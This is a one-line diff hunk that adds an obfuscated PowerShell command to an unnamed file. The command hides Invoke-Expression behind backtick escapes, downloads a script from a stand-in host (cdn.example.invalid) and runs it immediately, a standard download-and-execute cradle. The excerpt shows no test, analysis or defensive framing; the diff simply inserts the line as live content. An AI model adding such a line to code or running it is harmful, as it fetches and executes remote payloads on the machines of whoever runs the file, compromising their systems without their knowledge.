@@ -1,0 +1,1 @@
+i`e`x (iwr -UseBasicParsing -Uri "https://cdn.example.invalid/a.ps1").Content
